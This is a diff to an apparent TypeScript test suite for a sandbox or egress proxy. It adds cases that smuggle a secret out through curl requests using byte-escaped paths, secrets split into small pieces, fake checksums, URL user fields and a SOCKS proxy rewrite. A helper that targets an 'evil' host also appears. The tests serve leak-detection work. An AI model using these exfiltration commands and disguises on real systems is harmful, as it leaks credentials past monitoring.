@@ -22,6 +22,8 @@ interface Shape {
   hosts?(s: string): string[];
   /** By no proxy: the control is the line without a sandbox. */
   past?: boolean;
+  /** How it is heard; absent: as it was written. */
+  written?(s: string): string;
   remains?: string;
 }
 
@@ -42,6 +44,10 @@ const at = (s: string) => `http://${evil}/${s}`;
 const below = (host: string) => ({ hosts: (s: string) => [`${s}.${host}`.toLowerCase()] });
 const git = (words: string) =>
   `export GIT_TERMINAL_PROMPT=0; cd /tmp && rm -rf attack-git && git init -q attack-git && cd attack-git && timeout 5 git ${words}; cd /; rm -rf /tmp/attack-git`;
+
+const escapedBytes = (s: string) => Buffer.from(s).toString('hex').replace(/../g, '%$&');
+const inPieces = (s: string, mark: string) => s.match(/.{1,8}/g)?.join(mark) ?? s;
+const asChecksum = (s: string) => Buffer.from(s).toString('hex').padEnd(128, '0').slice(0, 128);
 
 const roads: Record<string, Shape[]> = {
   dns: [
@@ -146,8 +152,28 @@ const roads: Record<string, Shape[]> = {
     shape('headers for the proxy', (s) => curl('--proxy-header', `x-own: ${s}`, '-H', `proxy-authorization: ${s}`, `http://${granted}/`)),
   ],
   looks: [
-    shape('a path at the granted host', (s) => curl(`http://${granted}/${s}`), { remains: 'Looks' }),
-    shape('a query at the granted host', (s) => curl(`http://${granted}/?q=${s}`), { remains: 'Looks' }),
+    shape('a path at the granted host', (s) => curl(`http://${granted}/${s}`)),
+    shape('a query at the granted host', (s) => curl(`http://${granted}/?q=${s}`)),
+    shape('a file of the granted host', (s) => curl(`http://${granted}/docs/${s}.html`)),
+    shape('a look at what there is, without content', (s) => curl('-I', `http://${granted}/${s}`)),
+    shape('a name in a query', (s) => curl(`http://${granted}/?${s}=1`)),
+    shape('a path in which each byte is escaped', (s) => curl('--path-as-is', `http://${granted}/${escapedBytes(s)}`)),
+    shape('a path with words around', (s) => curl(`http://${granted}/how-to-make-a-table-of-${s}-by-month`)),
+    shape('a path that is doubled', (s) => curl(`http://${granted}/a;v=${s}/b`)),
+    shape('a user at the granted host', (s) => curl(`http://${s}@${granted}/`)),
+    shape(
+      'a look by SOCKS',
+      (s) => `p=$(echo "\${http_proxy:-$HTTP_PROXY}" | sed 's#^http#socks5h#'); curl -s -m 5 -x "$p" http://${granted}/${s}`,
+    ),
+    shape('a path in small pieces', (s) => curl(`http://${granted}/${inPieces(s, '/')}`), {
+      written: (s) => inPieces(s, '/'),
+      remains: 'Looks',
+    }),
+    shape('a query in small pieces', (s) => curl(`http://${granted}/?a=${inPieces(s, '&a=')}`), {
+      written: (s) => inPieces(s, '&a='),
+      remains: 'Looks',
+    }),
+    shape('what looks like a checksum', (s) => curl(`http://${granted}/${asChecksum(s)}`), { written: asChecksum, remains: 'Looks' }),
   ],
 };
 
@@ -155,7 +181,7 @@ const kinds = Object.entries(encodings);
 
 /** Each shape with the secret as it is, and written in two of the other ways. */
 export const carriedByNetwork: Case[] = Object.entries(roads).flatMap(([road, shapes]) =>
-  shapes.flatMap(({ name, line, hosts, past, remains }, index) =>
+  shapes.flatMap(({ name, line, hosts, past, remains, written = (s: string) => s }, index) =>
     [0, 1 + (index % (kinds.length - 1)), 1 + ((index + 3) % (kinds.length - 1))].map((which): Case => {
       const [kind, write] = kinds[which] ?? ['plain', (text: string) => text];
       return {
@@ -173,7 +199,7 @@ export const carriedByNetwork: Case[] = Object.entries(roads).flatMap(([road, sh
             world.listeners.forget();
             return heard;
           }
-          return throughProxy(line(s, world), s, protection === 'on' ? undefined : (hosts?.(s) ?? []), world);
+          return throughProxy(line(s, world), written(s), protection === 'on' ? undefined : (hosts?.(s) ?? []), world);
         },
       };
     }),
